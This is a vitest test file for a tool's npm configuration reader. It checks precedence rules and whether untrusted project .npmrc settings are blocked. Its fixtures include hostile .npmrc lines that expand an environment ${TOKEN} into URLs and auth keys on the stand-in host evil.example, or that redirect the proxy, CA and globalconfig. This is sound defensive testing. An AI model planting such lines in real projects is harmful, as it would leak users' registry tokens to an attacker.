import { join } from "node:path";
import { expect, test } from "vitest";
import {
  readNpmConfiguration,
  readUntrustedNpmConfiguration,
  withheldLines,
} from "../../src/files/npm-configuration.ts";
import { toFetchOptions } from "../../src/npm/registry/registry-client.ts";
import { makeTree } from "../support/packs.ts";
import { runToSuccess } from "../support/run-process.ts";

test("npm configuration files and variables have npm's precedence", async () => {
  const folder = makeTree({
    "project/.npmrc":
      "registry=http://project/\n@a:registry=http://a-project/\n" +
      "init-author-name=\\${NO}.\\\\${NO?}.\\\\\\${NO}.${NO}.${NO?}.${NO??}.$\\{NO}.${NPM_CONFIG_NOPROXY}",
    "project/package.json": { name: "x" },
    "home/.npmrc":
      "registry=http://user/\n@a:registry=http://a-user/\nproxy=http://user-proxy/\nnoproxy=user\n",
    globalrc: "proxy=http://global/\nhttps-proxy=http://global-https/\n",
  });
  const env = {
    PATH: process.env.PATH,
    HOME: join(folder, "home"),
    npm_config_globalconfig: join(folder, "globalrc"),
    NPM_CONFIG_NOPROXY: "environment",
  };
  const projectDirectory = join(folder, "project");
  const configuration = readNpmConfiguration({ projectDirectory, env, home: env.HOME });
  const keys = ["registry", "@a:registry", "proxy", "noproxy", "https-proxy", "init-author-name"];
  const own = keys.map((key) => configuration.get(key));
  expect(own).toEqual([
    "http://project/",
    "http://a-project/",
    "http://user-proxy/",
    "environment",
    "http://global-https/",
    "${NO}.${NO?}.\\${NO}.${NO}..${NO??}.$\\{NO}.environment",
  ]);
  // npm itself says the same.
  const text = await runToSuccess("npm", ["config", "get", ...keys], {
    cwd: projectDirectory,
    env,
    timeoutMs: 60_000,
  });
  expect(text.trim().split("\n").sort()).toEqual(keys.map((key, index) => `${key}=${own[index]}`).sort());
});

test("a project's .npmrc expands variables only in credentials for registries of the user", () => {
  const folder = makeTree({
    "project/.npmrc": [
      "registry=https://evil.example/${TOKEN}/",
      "@${TOKEN}:registry=https://evil.example/",
      "proxy=http://${TOKEN}.evil.example/",
      "prefix=evil",
      "globalconfig=evil/etc/npmrc",
      "//evil.example/:_authToken=${TOKEN}",
      "//evil.example/:username=s3cret-name",
      "//${TOKEN}.evil.example/:_auth=x",
      "//corp.example.evil/:_authToken=${TOKEN}",
      "//corp.example:444/:_authToken=${TOKEN}",
      "//corp.example/:_authToken=${TOKEN}",
      "//shared.example/:_authToken=${TOKEN}",
      "//shared.example/evil/:_authToken=${TOKEN}",
      "//shared.example/team/:_authToken=${TOKEN}",
      "//own.example/:_password=${TOKEN}",
      "//global.example/npm/:_authToken=${TOKEN}",
    ].join("\n"),
    "project/evil/etc/npmrc": "registry=https://evil.example/\n",
    "home/.npmrc":
      "registry=https://corp.example\n@t:registry=https://shared.example/team/\n//own.example/:username=me\n",
    globalrc: "@g:registry=http://global.example/npm/\n",
  });
  const { configuration, withheld } = readUntrustedNpmConfiguration({
    projectDirectory: join(folder, "project"),
    env: { TOKEN: "t0ken", npm_config_globalconfig: join(folder, "globalrc") },
    home: join(folder, "home"),
  });
  const own = Object.fromEntries([...configuration].filter(([, value]) => String(value).includes("t0ken")));
  expect(own).toEqual({
    "//corp.example/:_authToken": "t0ken",
    "//shared.example/team/:_authToken": "t0ken",
    "//own.example/:_password": "t0ken",
    "//global.example/npm/:_authToken": "t0ken",
  });
  expect(configuration.get("registry")).toBe("https://evil.example/${TOKEN}/");
  expect([...configuration.keys()].filter((key) => /t0ken|\/\/.*evil/.test(key))).toEqual([]);
  expect(withheldLines(withheld, "https://evil.example/npm")).toEqual([
    "//evil.example/:_authToken=${TOKEN}",
    "//evil.example/:username=…",
  ]);
  expect(withheldLines(withheld, "https://corp.example/")).toEqual([]);
});

test("a project that is not trusted does not choose how registries are reached", () => {
  const keys = ["proxy", "https-proxy", "noproxy", "ca", "cafile", "strict-ssl"];
  const folder = makeTree({
    "project/.npmrc": [...keys.map((key) => `${key}=evil`), "ca[]=evil", "fetch-retries=1"].join("\n"),
    "home/.npmrc": "proxy=http://mine.example/\n",
  });
  const { configuration } = readUntrustedNpmConfiguration({
    projectDirectory: join(folder, "project"),
    env: { npm_config_globalconfig: join(folder, "none") },
    home: join(folder, "home"),
  });
  expect(keys.map((key) => configuration.get(key))).toEqual([
    "http://mine.example/",
    ...Array(keys.length - 1).fill(undefined),
  ]);
  expect(configuration.get("fetch-retries")).toBe("1");
});

test("the configuration becomes options of npm-registry-fetch, without invalid addresses", () => {
  // TLS reads all certificates of a file.
  const ca = "-----BEGIN CERTIFICATE-----\na\n-----END CERTIFICATE-----\n".repeat(2);
  const folder = makeTree({ "ca.pem": ca });
  const options = toFetchOptions(
    new Map<string, string | string[]>([
      ["registry", "ftp://nowhere/"],
      ["@a:registry", "http://a/"],
      ["@b:registry", "b"],
      ["//a/:_authToken", "t"],
      ["__proto__", "x"],
      ["strict-ssl", "false"],
      ["cafile", join(folder, "ca.pem")],
      ["https-proxy", "http://p/"],
      ["proxy", "null"],
      ["noproxy", "c"],
      ["cert", "a\\nb"],
      ["fetch-retries", "5"],
    ]),
  );
  expect({ ...options }).toEqual({
    "@a:registry": "http://a/",
    "//a/:_authToken": "t",
    retry: { retries: 5, factor: 4, minTimeout: 500, maxTimeout: 10_000 },
    strictSSL: false,
    ca,
    httpsProxy: "http://p/",
    noProxy: "c",
    cert: "a\nb",
  });
  expect(toFetchOptions(new Map()).strictSSL).toBe(true);
});
